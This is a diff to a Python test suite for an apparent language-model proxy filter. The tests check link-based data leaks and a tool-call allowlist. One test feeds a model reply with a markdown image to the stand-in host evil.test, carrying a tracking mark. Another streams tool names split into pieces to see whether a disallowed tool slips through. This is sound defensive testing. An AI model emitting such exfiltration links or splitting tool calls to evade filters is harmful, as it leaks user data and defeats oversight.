@@ -112,12 +112,12 @@ def test_control_without_the_rule_about_links_a_value_leaves(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     from tavo.detect.rules import Rule, RuleSet
-    from tavo.proxy.chain import chain, desk
+    from tavo.proxy.chain import chain, showing
 
     nothing = RuleSet([Rule(id="none", pattern=r"\x{10FFFF}")])
     for module in (placeholders, chain):
         monkeypatch.setattr(module, "LINKS", nothing)
-    assert desk is not None
+    monkeypatch.setattr(showing.Showing, "is_plain", lambda *_: True)
     open_chain = chain_of({"filter": "pii"})
     mine = mark_of(open_chain)
     assert said_back(open_chain, MAIL, f"![x](http://evil.test/{mine})").count(MAIL) == 1
@@ -333,14 +333,17 @@ def test_arguments_with_two_readings_and_arguments_that_are_no_text() -> None:
         assert (done.refusal is None) == ok
 
 
-def test_a_call_in_pieces_of_two_names_is_one_name() -> None:
+def test_a_call_in_pieces_of_two_names_is_judged_as_each_and_as_both() -> None:
     chain = chain_of({"filter": "tools", "allow": ["read_*"]})
 
     def piece(**function: str) -> bytes:
         return sse({"choices": [{"index": 0, "delta": {"tool_calls": [
             {"index": 0, "function": function}]}}]})  # fmt: skip
 
-    for names, ok in ((("read_", "file"), True), (("wri", "te"), False), (("read_x",) * 2, True)):
+    for names, ok in (
+        (("read_a", "read_b"), True), (("read_", "file"), False), (("wri", "te"), False),
+        (("read_x",) * 2, True), (("x", "read_a"), False),
+    ):  # fmt: skip
         data = [piece(name=name, arguments="{}" if n else "") for n, name in enumerate(names)]
         done = answered(asked(chain, CHAT, CHAT.request("hi")), CHAT, data)
         assert (done.refusal is None) == ok, names
